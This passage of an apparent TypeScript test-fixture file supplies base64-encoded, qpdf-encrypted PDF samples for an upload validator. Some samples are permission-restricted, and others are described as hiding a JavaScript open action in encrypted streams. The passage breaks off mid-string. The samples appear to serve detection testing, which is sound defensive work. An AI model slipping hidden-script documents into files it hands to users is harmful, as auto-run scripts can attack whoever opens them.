import { deflateSync } from "node:zlib";
import type { UploadError } from "#server/uploads/upload-error.ts";
import {
  DOCX_PARTS,
  pngChunk,
  sampleDoc,
  sampleDocx,
  sampleJpg,
  samplePdf,
  samplePng,
  sampleZip,
  type ZipPart,
} from "./sample-files.ts";

/*
 * PDFs that qpdf 11.3 encrypted (`qpdf --object-streams=generate --encrypt USER OWNER BITS …`). Everything but the catalog is
 * in an encrypted object stream; those of `RESTRICTED_SCRIPTS` have an action with JavaScript there.
 */

const pdf = (base64: string) => Buffer.from(base64, "base64");

/** PDFs that open without a password, but whose owner restricted printing or changes. */
export const RESTRICTED: Readonly<Record<string, Buffer>> = {
  "rc4-40": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDExMCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KWvAt7p4CwGlbCvykt6kr1Z1V9xQTXqOwp7a86rjUDeFNo6XGw5fHTDbrVuq1Z1PJCcHodKS56yVlnrTYcLUnUIdkZYzq72VkAu1ARW0nW+VZuTHvrCvW6aqleGaELEo1ZxDZ5cc2E/7IP9NI0qJlbmRzdHJlYW0KZW5kb2JqCjYgMCBvYmoKPDwgL0ZpbHRlciAvU3RhbmRhcmQgL0xlbmd0aCA0MCAvTyA8YzkyNDIyNjg3ZmFjZWU2ODZlMzczZjEwYjVjN2QwNDczODA1MzE1MmY3ZTJlZTMwZTExYzY5ZWM0NDI1NzZhYj4gL1AgLTggL1IgMiAvVSA8Njk1ZTQzNjIxMjUxZjgwMTQyNmI1MzY5ZDk0OGVmMGM0YjgxYWY4MmRlNjRjZGVhNTlmYjEzYmNjMWNjYTU1OT4gL1YgMSA+PgplbmRvYmoKNyAwIG9iago8PCAvVHlwZSAvWFJlZiAvTGVuZ3RoIDM3IC9GaWx0ZXIgL0ZsYXRlRGVjb2RlIC9EZWNvZGVQYXJtcyA8PCAvQ29sdW1ucyA0IC9QcmVkaWN0b3IgMTIgPj4gL1cgWyAxIDIgMSBdIC9Sb290IDEgMCBSIC9TaXplIDggL0lEIFs8NmEzYmIzOTc0MDU3Y2VjYmJhNzI3YWEyYTJiZGVhOTU+PDZhM2JiMzk3NDA1N2NlY2JiYTcyN2FhMmEyYmRlYTk1Pl0gL0VuY3J5cHQgNiAwIFIgPj4Kc3RyZWFtCnicY2IAAiZGBn4GJgYGZxBrA4jFwAgh/jMq/QOyzjEAACtzBAUKZW5kc3RyZWFtCmVuZG9iagpzdGFydHhyZWYKNDk4CiUlRU9GCg==",
  ),
  "rc4-unpacked": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEzMiAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KGYykY229gGdlaPAdIJ6zsrYBtqqQCgdFeYvBDjCBAehBTsp6O0BkCPDm3ALbE42oZpHAwuidv+dP7S7G4pmjb0Xk6KiGXcO9xGMCdioFzVbx7HJL5S1nRKPi5C4VgQtGweeVpQlOb0Va59VF8dr5daPNf/d0Gmr0RevH0Q57teEBI7goZW5kc3RyZWFtCmVuZG9iago2IDAgb2JqCjw8IC9GaWx0ZXIgL1N0YW5kYXJkIC9MZW5ndGggMTI4IC9PIDw1NjZmYTg3M2VlMzNjNzk3Y2QzYjkwNGZkYWRmODE0YWZhMzRkZjlhMzhmNmVkNDFiOTg0ZTJjNmRhMmFhNmY1PiAvUCAtNCAvUiAzIC9VIDwyOTc1OWU4ZTg4NDFkMmNiYzg4ZTQ0OTljNzE4MzEzNjAxMjI0NTZhOTFiYWU1MTM0MjczYTZkYjEzNGM4N2M0PiAvViAyID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzIgL1cgWyAxIDIgMSBdIC9Sb290IDEgMCBSIC9TaXplIDggL0lEIFs8NmRhNTU3OTFmYjFmY2NkMGVjYmVmZGM1NDY4MGE1YTg+PDZkYTU1NzkxZmIxZmNjZDBlY2JlZmRjNTQ2ODBhNWE4Pl0gL0VuY3J5cHQgNiAwIFIgPj4Kc3RyZWFtCgAAAAABAA8AAQBSAAIAAgACAAIBAgACAgEBJQABAfQACmVuZHN0cmVhbQplbmRvYmoKc3RhcnR4cmVmCjUwMAolJUVPRgo=",
  ),
  "aes-128": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEyOCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0Kimal3tyTIFlche+y+bmqds8zlh30/KNNTeIST0q7av/t9irPvqb15iT19zcAXLf5CUV5J/MZ02dEe/brkqvT8rdYP5BVwoNPKEwMih7h2FSkfXy9byhoSZU7lqrDTSu0d8EIVqE1IOKvl9DKF45/8DgKAQzQo2bGHXifXxHs+MplbmRzdHJlYW0KZW5kb2JqCjYgMCBvYmoKPDwgL0NGIDw8IC9TdGRDRiA8PCAvQXV0aEV2ZW50IC9Eb2NPcGVuIC9DRk0gL0FFU1YyIC9MZW5ndGggMTYgPj4gPj4gL0ZpbHRlciAvU3RhbmRhcmQgL0xlbmd0aCAxMjggL08gPDU2NmZhODczZWUzM2M3OTdjZDNiOTA0ZmRhZGY4MTRhZmEzNGRmOWEzOGY2ZWQ0MWI5ODRlMmM2ZGEyYWE2ZjU+IC9QIC0yMDU2IC9SIDQgL1N0bUYgL1N0ZENGIC9TdHJGIC9TdGRDRiAvVSA8Njk3NGU3NzQ0OGNhNzUxNTg4ZjRmOGI3OTY3NTdjMGEwMTIyNDU2YTkxYmFlNTEzNDI3M2E2ZGIxMzRjODdjND4gL1YgNCA+PgplbmRvYmoKNyAwIG9iago8PCAvVHlwZSAvWFJlZiAvTGVuZ3RoIDM4IC9GaWx0ZXIgL0ZsYXRlRGVjb2RlIC9EZWNvZGVQYXJtcyA8PCAvQ29sdW1ucyA0IC9QcmVkaWN0b3IgMTIgPj4gL1cgWyAxIDIgMSBdIC9Sb290IDEgMCBSIC9TaXplIDggL0lEIFs8NWE0ODIwYjczMDc1OTc2MGZjM2MwZmJjOTM3MDEwY2Y+PDVhNDgyMGI3MzA3NTk3NjBmYzNjMGZiYzkzNzAxMGNmPl0gL0VuY3J5cHQgNiAwIFIgPj4Kc3RyZWFtCnicY2IAAiZGBn4GJgYGZxBrA4jFwAgh/jOa/GNiYNRjAAAqtAN4CmVuZHN0cmVhbQplbmRvYmoKc3RhcnR4cmVmCjYxMgolJUVPRgo=",
  ),
  "aes-256": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvRXh0ZW5zaW9ucyA8PCAvQURCRSA8PCAvQmFzZVZlcnNpb24gLzEuNyAvRXh0ZW5zaW9uTGV2ZWwgOCA+PiA+PiAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEyOCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KHqBHG5ZgsJu92nlWx7HqXrH70ls0i9Rw2tr3UQ/Vb/08u7IYa3xtExswlYfINL9D2uV9HW4zymXMzGU4ZDD5DsSocuVmXS76ownnXgx6AagDM7U2Ac4jn91KzzIrlULwlzxf2SBbMipxhv6kJ2y5fJgScVpMU6CFdnecMYeaS0hlbmRzdHJlYW0KZW5kb2JqCjYgMCBvYmoKPDwgL0NGIDw8IC9TdGRDRiA8PCAvQXV0aEV2ZW50IC9Eb2NPcGVuIC9DRk0gL0FFU1YzIC9MZW5ndGggMzIgPj4gPj4gL0ZpbHRlciAvU3RhbmRhcmQgL0xlbmd0aCAyNTYgL08gPDQwZTBlZmFiNTRlZTFlOGY1NjcxM2ZmOTEyN2I5ZTY0MmQ2MmY1OGMyM2MwMDNlOThkZDMxM2ExNmY5ZTExY2M1N2ExNTMyZGVhZjQ4MTZmMzI3MjZkNDQ0MjVkN2E1NT4gL09FIDxkZWY2YTllOGJhOTdiYjMyZDU1YTliNzdkMTUwNTQ4OWQ0ZmEzZDNiYTg3Y2RkMzQ5ZDg1Y2E1NWYxMzRlNjMxPiAvUCAtMjA1NiAvUGVybXMgPDY4ZWZiZmYyMWI2MGJhMzM0MGVkOWJhMmM3MDZiNDA2PiAvUiA2IC9TdG1GIC9TdGRDRiAvU3RyRiAvU3RkQ0YgL1UgPDY5ZmU5MGFmYzg2N2E1NWJkNjA4YTgyYTgzYjJlZGZkNDdlOGUwM2ZkZjgwOGFkZDcwZjA1MDg5MTBhMjQ2MGE1YTZjMzhhMzM4ODJjMmFkMDI4NjIxMGViNTI2OTU5Mz4gL1VFIDw4OTk2OWEwNTRjZTkzN2JhZWE4MzNlZDM4ZTJiNmI1NWVhODQ2NTIxYjhiY2ZmYWExODhhZTk5NzgwOTBhNmViPiAvViA1ID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzggL0ZpbHRlciAvRmxhdGVEZWNvZGUgL0RlY29kZVBhcm1zIDw8IC9Db2x1bW5zIDQgL1ByZWRpY3RvciAxMiA+PiAvVyBbIDEgMiAxIF0gL1Jvb3QgMSAwIFIgL1NpemUgOCAvSUQgWzw4ODZkMmI3NmM5ZDI2OGIwYjQ2ZmM2NGM4NjM2MWI1Nz48ODg2ZDJiNzZjOWQyNjhiMGI0NmZjNjRjODYzNjFiNTc+XSAvRW5jcnlwdCA2IDAgUiA+PgpzdHJlYW0KeJxjYgACJkYGfgYmBoZWECsPxGJghBD/Gcv+MTEwqTEAAC2/A7MKZW5kc3RyZWFtCmVuZG9iagpzdGFydHhyZWYKOTI2CiUlRU9GCg==",
  ),
};

/** The same with a hidden script. */
export const RESTRICTED_SCRIPTS: Readonly<Record<string, Buffer>> = {
  "rc4-40": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEzNiAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0K7t/cZ2JEEF3ID2HxsheBm0LTYY8D2+vgrXwst8IBpctgHor6cioU5S+ZJiuv2R/zOy8Kk/0P8s1WV+HW3dWTuV5/1tQJyGeNjrPd99xuM2fEBPnbZeToAeLVwWErKAsEd3XtN/ce7rCRyIHyIJrWZfQc1C7nBwxtO8cDt6/skEu5bjixZ9W9uWVuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDQwIC9PIDxjOTI0MjI2ODdmYWNlZTY4NmUzNzNmMTBiNWM3ZDA0NzM4MDUzMTUyZjdlMmVlMzBlMTFjNjllYzQ0MjU3NmFiPiAvUCAtOCAvUiAyIC9VIDwwZDA0YzQ2YWUyMzEyMDhiZjVlYjgwZTJkNjQ3MWFmMDQyOTQzMzczNTYxN2QyYzMzOTc4ZTBmNjE0OGFiOTk1PiAvViAxID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzggL0ZpbHRlciAvRmxhdGVEZWNvZGUgL0RlY29kZVBhcm1zIDw8IC9Db2x1bW5zIDQgL1ByZWRpY3RvciAxMiA+PiAvVyBbIDEgMiAxIF0gL1Jvb3QgMSAwIFIgL1NpemUgOCAvSUQgWzw1NmU1NjZhOWY2MDVkMDAwMDJjMDhjYzJmYzMyZGM0ND48NTZlNTY2YTlmNjA1ZDAwMDAyYzA4Y2MyZmMzMmRjNDQ+XSAvRW5jcnlwdCA2IDAgUiA+PgpzdHJlYW0KeJxjYgACJkYGfgYmBgZnEGsDiMXACCH+M9r8Y2JgPMcAACwsBCAKZW5kc3RyZWFtCmVuZG9iagpzdGFydHhyZWYKNTI0CiUlRU9GCg==",
  ),
  "rc4-128": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEzNiAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0K6c22YVViaiw7me76JD6gWrYpdrLrCsVCWjkAs3PsRlgGrONercZQH4GU/IGstiyZh+MyK1Gh4SEA8kXoGP/Br5EghvRT7djEhB3y+FM/8rwEfGSl9bH11sWskMPZXNJwqdAykJIRzsOnxD9PSp4laTwLPfajk+ThhSpxRq/xfCy+dhMH3CLTbGVuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDEyOCAvTyA8NTY2ZmE4NzNlZTMzYzc5N2NkM2I5MDRmZGFkZjgxNGFmYTM0ZGY5YTM4ZjZlZDQxYjk4NGUyYzZkYTJhYTZmNT4gL1AgLTIwNTYgL1IgMyAvVSA8MTNjYmI4NWFiY2I5OTIxMGIzMWY4MmRhM2FmNTkwYjMwMTIyNDU2YTkxYmFlNTEzNDI3M2E2ZGIxMzRjODdjND4gL1YgMiA+PgplbmRvYmoKNyAwIG9iago8PCAvVHlwZSAvWFJlZiAvTGVuZ3RoIDM4IC9GaWx0ZXIgL0ZsYXRlRGVjb2RlIC9EZWNvZGVQYXJtcyA8PCAvQ29sdW1ucyA0IC9QcmVkaWN0b3IgMTIgPj4gL1cgWyAxIDIgMSBdIC9Sb290IDEgMCBSIC9TaXplIDggL0lEIFs8ZDQ1NTQ0YjA1NmYwZjhkMjQ4NWM3NzkzYWY2NTY4NWU+PGQ0NTU0NGIwNTZmMGY4ZDI0ODVjNzc5M2FmNjU2ODVlPl0gL0VuY3J5cHQgNiAwIFIgPj4Kc3RyZWFtCnicY2IAAiZGBn4GJgYGZxBrA4jFwAgh/jPa/GNiYLzEAAAsNAQkCmVuZHN0cmVhbQplbmRvYmoKc3RhcnR4cmVmCjUyOAolJUVPRgo=",
  ),
  "rc4-v4": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEzNiAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0K9e8z3dNy95KMazv9qCPjrTshFAvCteHhVGrY12R2m1GeHzI+0lie+hOPYecmfj+vPuA2Y1RYFjfRlecq1DfKoIWGRJmIRQagnMWck8nlK6uM9fxjky1A2i5R3QdAsFOl9+dwixaKk09MrY5XyjANt7MoyQvB3s6ouyaGMqlYeoF0y++AJCPE52VuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvVjIgL0xlbmd0aCAxNiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDEyOCAvTyA8NTY2ZmE4NzNlZTMzYzc5N2NkM2I5MDRmZGFkZjgxNGFmYTM0ZGY5YTM4ZjZlZDQxYjk4NGUyYzZkYTJhYTZmNT4gL1AgLTIwNTYgL1IgNCAvU3RtRiAvU3RkQ0YgL1N0ckYgL1N0ZENGIC9VIDxkYzM0OGJhNmMxMTgzNGYxNDZiMmJjOWIzZmIzZWE0NjAxMjI0NTZhOTFiYWU1MTM0MjczYTZkYjEzNGM4N2M0PiAvViA0ID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzggL0ZpbHRlciAvRmxhdGVEZWNvZGUgL0RlY29kZVBhcm1zIDw8IC9Db2x1bW5zIDQgL1ByZWRpY3RvciAxMiA+PiAvVyBbIDEgMiAxIF0gL1Jvb3QgMSAwIFIgL1NpemUgOCAvSUQgWzxkMDUzZjAxNWVjMjJhZTUxYmM1NjNmYThmMGJlMWM0Nz48ZDA1M2YwMTVlYzIyYWU1MWJjNTYzZmE4ZjBiZTFjNDc+XSAvRW5jcnlwdCA2IDAgUiA+PgpzdHJlYW0KeJxjYgACJkYGfgYmBgZnEGsDiMXACCH+M9r8Y2Jg1GYAACrmA30KZW5kc3RyZWFtCmVuZG9iagpzdGFydHhyZWYKNjE3CiUlRU9GCg==",
  ),
  "rc4-unpacked": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDE1OSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KekWCSjACDXoM5akCWjtmpdVws7+tvgIlQIb3kPQzQVF8u/MbPVjEots+g+8bwfFAWkAwiE7v23Grwjphlc8f2gKc48mpARWg6CF0vBzPtKu9lSNY6DZ2rCli82tRJqLsbb4egHMF/QpyQUl+E2t7AdFtbbNWHPU9XPqre1PUfeQ9bH1gvMUWv+hrrQgOUe1d3o0LWaRORYUL8i3RsgRAZW5kc3RyZWFtCmVuZG9iago2IDAgb2JqCjw8IC9GaWx0ZXIgL1N0YW5kYXJkIC9MZW5ndGggMTI4IC9PIDw1NjZmYTg3M2VlMzNjNzk3Y2QzYjkwNGZkYWRmODE0YWZhMzRkZjlhMzhmNmVkNDFiOTg0ZTJjNmRhMmFhNmY1PiAvUCAtNCAvUiAzIC9VIDw0ZTVmZjUxNjhjNWY3MGEyZTMwZDcyMzhhNjdjMzhmNjAxMjI0NTZhOTFiYWU1MTM0MjczYTZkYjEzNGM4N2M0PiAvViAyID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzIgL1cgWyAxIDIgMSBdIC9Sb290IDEgMCBSIC9TaXplIDggL0lEIFs8MmJiNjEwMTVjMDhiOTUyODhjYmQ5YWFmNjUyYzJjNWU+PDJiYjYxMDE1YzA4Yjk1Mjg4Y2JkOWFhZjY1MmMyYzVlPl0gL0VuY3J5cHQgNiAwIFIgPj4Kc3RyZWFtCgAAAAABAA8AAQBSAAIAAgACAAIBAgACAgEBQAABAg8ACmVuZHN0cmVhbQplbmRvYmoKc3RhcnR4cmVmCjUyNwolJUVPRgo=",
  ),
  "aes-128": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDE2MCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KzW5v/5j4qo2bKXCnT3Y6XggQj8+Xdqdw0gp7clLVdAW1U4NupW5opEOGoQu8zR4l1itQBb0KTJW8Bwg0+5udGJiCUhZpZw9hPgS7OkTm7l7tsLJEKNOdDwlslhTCUt8IN/JimmR300+ZGKw1/ZYgHgzaNays7NwGqKi2oJ7+R03VXoCajf4Ow+XJzaKd5hzpPZaTM47S5QJrmi29BZvchGVuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVTVjIgL0xlbmd0aCAxNiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDEyOCAvTyA8NTY2ZmE4NzNlZTMzYzc5N2NkM2I5MDRmZGFkZjgxNGFmYTM0ZGY5YTM4ZjZlZDQxYjk4NGUyYzZkYTJhYTZmNT4gL1AgLTIwNTYgL1IgNCAvU3RtRiAvU3RkQ0YgL1N0ckYgL1N0ZENGIC9VIDwyYWJkOWUyMjQxNzA1Y2FlZTg4NzVlNGY4OTlmNjZkZjAxMjI0NTZhOTFiYWU1MTM0MjczYTZkYjEzNGM4N2M0PiAvViA0ID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzggL0ZpbHRlciAvRmxhdGVEZWNvZGUgL0RlY29kZVBhcm1zIDw8IC9Db2x1bW5zIDQgL1ByZWRpY3RvciAxMiA+PiAvVyBbIDEgMiAxIF0gL1Jvb3QgMSAwIFIgL1NpemUgOCAvSUQgWzxhNGQzMDJjZDI1OWY4Yjk5ZGVkM2ZhYzljMDI1YTcxNT48YTRkMzAyY2QyNTlmOGI5OWRlZDNmYWM5YzAyNWE3MTU+XSAvRW5jcnlwdCA2IDAgUiA+PgpzdHJlYW0KeJxjYgACJkYGfgYmBgZnEGsDiMXACCH+M4b8Y2Jg1GMAACuUA5gKZW5kc3RyZWFtCmVuZG9iagpzdGFydHhyZWYKNjQ0CiUlRU9GCg==",
  ),
  "aes-128-meta": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDE2MCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KJ5Alpwa6e1uSfVjNjHlMdgIRgrqrZZRIENROpJ41zBv9eIRMva2kTMb/FYM/dN1RHcZbLIOcOdJ2XANrfk265HXX8EIRtvv/tYuSEz9fMYcWgsRYooExyNacjw3zSH6ARxTpTTDf3fuklA9NC8C5rkDEh241EEF/u+gUFJkwpytEjZBRK6c5yhVLkvBoHM0nbCjTriYC1ky8NFCQniM202VuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVTVjIgL0xlbmd0aCAxNiA+PiA+PiAvRW5jcnlwdE1ldGFkYXRhIGZhbHNlIC9GaWx0ZXIgL1N0YW5kYXJkIC9MZW5ndGggMTI4IC9PIDw1NjZmYTg3M2VlMzNjNzk3Y2QzYjkwNGZkYWRmODE0YWZhMzRkZjlhMzhmNmVkNDFiOTg0ZTJjNmRhMmFhNmY1PiAvUCAtMjA1NiAvUiA0IC9TdG1GIC9TdGRDRiAvU3RyRiAvU3RkQ0YgL1UgPGJjYmVlODc2YjUzNWEyM2VhN2NlZTBkOTQ4ZWM1NzNjMDEyMjQ1NmE5MWJhZTUxMzQyNzNhNmRiMTM0Yzg3YzQ+IC9WIDQgPj4KZW5kb2JqCjcgMCBvYmoKPDwgL1R5cGUgL1hSZWYgL0xlbmd0aCAzOCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvRGVjb2RlUGFybXMgPDwgL0NvbHVtbnMgNCAvUHJlZGljdG9yIDEyID4+IC9XIFsgMSAyIDEgXSAvUm9vdCAxIDAgUiAvU2l6ZSA4IC9JRCBbPDY0NjU5OWM0MjYyZjRjZWQ0YzM5MGVhMjg0MTY4YTc0Pjw2NDY1OTljNDI2MmY0Y2VkNGMzOTBlYTI4NDE2OGE3ND5dIC9FbmNyeXB0IDYgMCBSID4+CnN0cmVhbQp4nGNiAAImRgZ+BiYGBmcQawOIxcAIIf4zhvxjYmB0ZQAAK8IDrwplbmRzdHJlYW0KZW5kb2JqCnN0YXJ0eHJlZgo2NjcKJSVFT0YK",
  ),
  "aes-256-r5": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvRXh0ZW5zaW9ucyA8PCAvQURCRSA8PCAvQmFzZVZlcnNpb24gLzEuNyAvRXh0ZW5zaW9uTGV2ZWwgMyA+PiA+PiAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDE2MCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KWqYyN+X0VDxqhOwbLK/QeCd4fcBHs/gCOI5lDabNWeDLtroKVTYfkKKi2sfYqP2r0p8nNl+xiIHCJNkX+OzonPV239Ue3Z8Iv3qyLQr8OqNYiL9H6KMUxBhNwjVKwL5ZHpoCqSIlGSFPI50Gn+0C9EVXScBYDBDgKZpq+CJKESpCGrqVPrjG0PZ7O/G2jADlsrE2rHReNWkRWN9PlO9BgGVuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVTVjMgL0xlbmd0aCAzMiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDI1NiAvTyA8MDk3MzA2M2FmYTA0NzExMmQ5MTJjN2U2ZmU5NzM1Y2IzNmU3NWIyNWU4ZTY0M2FjNGFjODYyYzFiYmQ3Y2YxY2M5M2EzYTA2NzllOTM4ZGZmYTlhNzViODhmMjAzOGI0PiAvT0UgPGU2NWI0NDMyMTIxOWMwMWNkZGRlMmI0NmZjOWEzOTllMTkwNjkyYjQ0NDEzYmRkOWU3NTNjZjU2NmRlZTM2MTc+IC9QIC0yMDU2IC9QZXJtcyA8MGE0ZmQzY2M0NjI1MGNkZjllMzM0YTY3MjFiMDIzNTA+IC9SIDUgL1N0bUYgL1N0ZENGIC9TdHJGIC9TdGRDRiAvVSA8ODlhZWQxZDc2NjFhYjllMzZiNjdkOThmNTM1MDljYzc2ZjNhODE1ZDlkMDRlM2EwYjI5Njk1ODMwOWU3ZjVlZTJhNmUxMzMyYTVlOTU4Yjg1ZTM2YjhiZWYxMmVjMzY1PiAvVUUgPGYwYzY5M2NlYzhiMDk5ZGU1NTM5OTg4MmFiN2U2Y2Q4MTFkYjk5NDg4MGVjZjRhZDRmMzFjMDlmYmJkNDU2YmQ+IC9WIDUgPj4KZW5kb2JqCjcgMCBvYmoKPDwgL1R5cGUgL1hSZWYgL0xlbmd0aCAzOCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvRGVjb2RlUGFybXMgPDwgL0NvbHVtbnMgNCAvUHJlZGljdG9yIDEyID4+IC9XIFsgMSAyIDEgXSAvUm9vdCAxIDAgUiAvU2l6ZSA4IC9JRCBbPGVlNjVlOWRhZjg3M2JjMGFiMjA5ZjI3NGE5MDQ5NzA0PjxlZTY1ZTlkYWY4NzNiYzBhYjIwOWYyNzRhOTA0OTcwND5dIC9FbmNyeXB0IDYgMCBSID4+CnN0cmVhbQp4nGNiAAImRgZ+BiYGhlYQKw/EYmCEEP8Zp/1jYmBSYwAALp8D0wplbmRzdHJlYW0KZW5kb2JqCnN0YXJ0eHJlZgo5NTgKJSVFT0YK",
  ),
  "aes-256": pdf(
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvRXh0ZW5zaW9ucyA8PCAvQURCRSA8PCAvQmFzZVZlcnNpb24gLzEuNyAvRXh0ZW5zaW9uTGV2ZWwgOCA+PiA+PiAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDE2MCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0KKoz8EF/RJfJS2ihDCPdfXv2IMetgDJmNQSwXHYoUPKebMQudf3bpH7ud+zQ5VWTY7iQzHoKjbPguPNDYFRiXqLDXxYb8NwzAESugLoLRj6DvhmKfM1mZnR8KfRqrr2cPrNNfCURK4Zo79Qsh4P8VfcHb/T12bVqozhF53FLFlQ+LPebsXfRjbGAFN32XJV0c4ZCcc6M/bn8mt+3fct3fImVuZHN0cmVhbQplbmRvYmoKNiAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVTVjMgL0xlbmd0aCAzMiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDI1NiAvTyA8MzQyZjMxYjAxM2VhN2QyMzYyNzkyZWU3NmRhODc4ZjEzYjRlZThlY2QwYWMxY2RkOWY3NGQxMjE2MGRmNDRhNzY0ODFhYmFhMGRiZTUwMGRmMjZlZTdlY2IzZDg1NDk4PiAvT0UgPGRmNTNjZWQ0MTBjODZlOTY3MjQyYTgwYjdjZjZiNWE1ZjZkY2MzYzhkMzNlOGMxNGRjZmU5MzcwNTI3NzUyNmU+IC